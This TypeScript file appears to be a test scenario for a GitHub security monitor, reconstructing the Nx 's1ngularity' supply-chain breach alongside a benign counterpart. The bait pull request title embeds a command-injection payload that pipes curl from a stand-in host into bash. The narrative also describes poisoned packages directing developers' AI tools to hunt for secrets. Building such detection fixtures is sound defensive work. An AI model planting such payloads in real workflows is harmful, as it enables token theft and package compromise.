import { headOf, inventory } from './baseline.ts';
import { forked, openedWithRun, reviewedChange, runOf, type Workflow, wholeRun } from './github-acts.ts';
import { type ChangeOf, createStage, pullRequest, type Stage } from './github-bodies.ts';
import { publicEvent, repositoryEvent } from './github-repositories.ts';
import type { Cast, Scenario, ScenarioStep } from './scenario.ts';

const [monorepo, secretive] = ['monorepo', 'pricing-engine'] as const;
const thief = 'sudden-finch-21';
const author = 'jay-author';
const reviewer = 'max-reviewer';
/** A developer of the same house, on whose machine a poisoned package looked for tokens. */
const victim = 'vera-developer';
const titles: Workflow = {
  ...{ repository: monorepo, name: 'Validate PR title', path: '.github/workflows/pr-title-validation.yml' },
  ...{ trigger: 'pull_request_target', job: 'validate' },
};
const publish: Workflow = {
  ...{ repository: monorepo, name: 'Publish', path: '.github/workflows/publish.yml' },
  ...{ trigger: 'workflow_dispatch', job: 'publish' },
};

function work(stage: Stage, from: { fork: boolean }): ChangeOf {
  return {
    ...{
      repository: monorepo,
      number: 32_455,
      title: 'fix(core): cache hash of inputs',
      author,
      association: 'MEMBER',
    },
    ...{ head: stage.sha('cache'), branch: 'fix-cache', base: headOf(stage, monorepo), ...from },
  };
}

/** The packages are published from the head of the default branch, by hand or by whoever has a token that may. */
const published = (stage: Stage, says: string, atMs: number, by: string): ScenarioStep[] =>
  wholeRun(
    stage,
    { name: 'publish', says, atMs },
    { ...publish, by, revision: headOf(stage, monorepo), branch: 'main' },
  );

function attack(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const bait: ChangeOf = {
    ...{ repository: monorepo, number: 32_458, author: thief, association: 'NONE', fork: true },
    title: 'fix: typo $(curl -s https://paste.example.com/raw/k9 | bash)',
    ...{ head: stage.sha('bait'), branch: 'fix-typo', base: headOf(stage, monorepo), openedAtMs: 1000 },
  };
  const exposed = { repository: 's1ngularity-repository-k3x9q', formerly: secretive, by: victim };
  return [
    ...openedWithRun(
      stage,
      { name: 'work', says: `${author} opened a pull request`, atMs: 100, runSays: 'its title was validated' },
      work(stage, { fork: false }),
      titles,
    ),
    forked(
      stage,
      { name: 'fork', says: 'somebody forked the repository', atMs: 700 },
      { repository: monorepo, by: thief },
    ),
    ...openedWithRun(
      stage,
      {
        ...{ name: 'bait', says: 'a pull request came whose title holds a command', atMs: 1000 },
        runSays: 'to validate the title, the workflow executed it, with a token that may write',
      },
      bait,
      titles,
    ),
    ...published(
      stage,
      'that token started the publishing workflow, which handed out npm’s',
      1700,
      'github-actions[bot]',
    ),
    pullRequest(stage, { name: 'bait-gone', says: 'the pull request was closed', atMs: 2400 }, 'closed', bait),
    repositoryEvent(
      stage,
      { name: 'renamed', says: `a stolen token of ${victim} renamed a private repository`, atMs: 3000 },
      'renamed',
      { ...exposed, isPrivate: true },
    ),
    repositoryEvent(stage, { name: 'shown', says: 'and made it public', atMs: 3200 }, 'publicized', exposed),
    publicEvent(stage, { name: 'shown-too', says: 'as GitHub tells twice', atMs: 3210 }, exposed),
  ];
}

function benign(cast: Cast): ScenarioStep[] {
  const stage = createStage(cast);
  const change = work(stage, { fork: true });
  return [
    ...reviewedChange(
      stage,
      { name: 'change', atMs: 300 },
      { ...change, files: ['packages/core/hash.ts'], reviewer, merge: stage.sha('merge of cache') },
    ),
    ...runOf(stage, { name: 'title', says: 'its title was validated', atMs: 380 }, change, titles),
    ...published(stage, `${reviewer} started the publishing workflow`, 1200, reviewer),
    repositoryEvent(stage, { name: 'renamed', says: `${victim} renamed a private repository`, atMs: 2200 }, 'renamed', {
      repository: 'pricing',
      formerly: secretive,
      by: victim,
      isPrivate: true,
    }),
  ];
}

export const nxSingularity: Scenario = {
  id: 'nx-s1ngularity',
  title: 'Nx, s1ngularity, August 2025',
  breach: { number: 16, name: 'Nx s1ngularity', date: '2025-08' },
  narrative:
    'A workflow that validates the titles of pull requests ran by pull_request_target, and put the title into a script. A pull request’s title held a command: it took a token that may write, and with it started the publishing workflow, which handed out the token of npm. ' +
    'The packages that were published with it had the AI tools of developers search their machines. What they found was put into public repositories called s1ngularity-repository, and days later the stolen tokens renamed private repositories so and made them public. ' +
    'npm alone could have told of the publication. Both sides are played in one organisation.',
  provenance: 'reconstructed',
  sources: [
    { title: 'Nx: s1ngularity, postmortem', url: 'https://nx.dev/blog/s1ngularity-postmortem' },
    { title: 'GHSA-cxm3-wv7p-598c, nx', url: 'https://github.com/nrwl/nx/security/advisories/GHSA-cxm3-wv7p-598c' },
  ],
  baseline: (cast) =>
    inventory(createStage(cast), {
      repositories: [monorepo, secretive],
      members: [
        { login: author, role: 'member' },
        { login: reviewer, role: 'admin' },
        { login: victim, role: 'member' },
      ],
    }),
  attack,
  benign,
  expects: [
    { rule: 'untrusted-metadata-injection', decidingStep: 'bait', responses: ['block-user'] },
    { rule: 'repository-exposed', decidingStep: 'shown', responses: ['close-exposure'] },
  ],
};
